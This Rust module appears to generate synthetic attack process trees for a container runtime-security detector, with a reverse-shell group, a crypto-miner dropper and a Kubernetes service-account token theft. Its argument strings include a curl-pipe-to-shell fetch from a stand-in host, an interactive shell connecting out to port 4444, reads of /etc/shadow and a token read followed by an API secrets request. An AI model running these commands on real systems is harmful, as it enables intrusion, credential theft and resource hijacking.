//! What attackers do, for any image. Every kind is a group that shares no node with another: where two kinds would start the
//! same program below the same parent, one of them goes another way.

mod escape;
mod execution;
mod persistence;
mod theft;

use wsp_schemas::identity::RootKind;

use super::builder::{Builder, Owner, Program};

/// Adds the kinds that are not apart: they and the image draw from one generator.
pub(super) fn add(b: &mut Builder, main: &Owner) {
    // A web shell's child with a shell that talks to its owner.
    let g = b.attack("reverse-shell");
    let shell =
        b.child(g, main, Program { exe: "/usr/bin/bash", args: "bash -i", uid: 33, ..Program::default() });
    b.reads(g, &shell, &["/etc/passwd", "/etc/shadow", "/root/.bash_history"]);
    b.connect(g, &shell, "tcp", "203.0.113.66", 4444, &[]);
    for (exe, reads) in [
        ("/usr/bin/whoami", "/etc/nsswitch.conf"),
        ("/usr/bin/uname", "/etc/ld.so.cache"),
        ("/usr/bin/find", "/etc/mtab"),
    ] {
        let tool = b.child(g, &shell, Program { exe, uid: 33, ..Program::default() });
        b.reads(g, &tool, &[reads]);
    }

    // A dropper that fetches a miner into a writable folder and runs it.
    let g = b.attack("crypto-miner");
    let sh = b.child(
        g,
        main,
        Program {
            exe: "/usr/bin/dash",
            args: "sh -c 'curl -s http://198.51.100.9/x | sh'",
            ..Program::default()
        },
    );
    let curl = b.child(
        g,
        &sh,
        Program {
            exe: "/usr/bin/curl",
            args: "curl -so /tmp/.x/xmrig http://198.51.100.9/x",
            ..Program::default()
        },
    );
    b.connect(g, &curl, "tcp", "198.51.100.9", 80, &[]);
    b.writes(g, &curl, "upper", &["/tmp/.x/xmrig"]);
    let miner = b.child(
        g,
        &sh,
        Program {
            exe: "/tmp/.x/xmrig",
            args: "/tmp/.x/xmrig -o pool.minexmr.example:3333",
            origin: "upper",
            ..Program::default()
        },
    );
    b.reads(
        g,
        &miner,
        &[
            "/proc/cpuinfo",
            "/sys/devices/system/cpu/online",
            "/sys/kernel/mm/hugepages/hugepages-2048kB/nr_hugepages",
        ],
    );
    b.calls(g, &miner, "pool.minexmr.example", 3333);

    // Somebody with `kubectl exec` who reads the pod's token and uses it.
    let g = b.attack("secret-read");
    let shell = b.root(
        g,
        RootKind::ExecSession,
        Program { exe: "/usr/bin/bash", args: "bash", ..Program::default() },
    );
    let cat = b.child(
        g,
        &shell,
        Program {
            exe: "/usr/bin/cat",
            args: "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            ..Program::default()
        },
    );
    b.file(g, &cat, "/var/run/secrets/kubernetes.io/serviceaccount/{time}/token", &["read"], "volume");
    let curl = b.child(
        g,
        &shell,
        Program {
            exe: "/usr/bin/curl",
            args: "curl -k https://10.96.0.1/api/v1/secrets",
            ..Program::default()
        },
    );
    b.reads(g, &curl, &["/etc/ssl/openssl.cnf", "/root/.curlrc"]);
    b.connect(g, &curl, "tcp", "10.96.0.1", 443, &[]);
}

/// Adds the kinds that are. `probe` is the shell of the health probe: an exec session with a shell is known by it.
pub(super) fn add_apart(b: &mut Builder, main: &Owner, probe: &Owner) {
    execution::add(b, main, probe);
    persistence::add(b, main, probe);
    escape::add(b, main, probe);
    theft::add(b, main);
}

/// What every program that is linked dynamically reads.
fn loads(b: &mut Builder, group: usize, owner: &Owner) {
    b.reads(group, owner, &["/etc/ld.so.cache", "/usr/lib/x86_64-linux-gnu/libc.so.6"]);
}

#[cfg(test)]
mod tests;
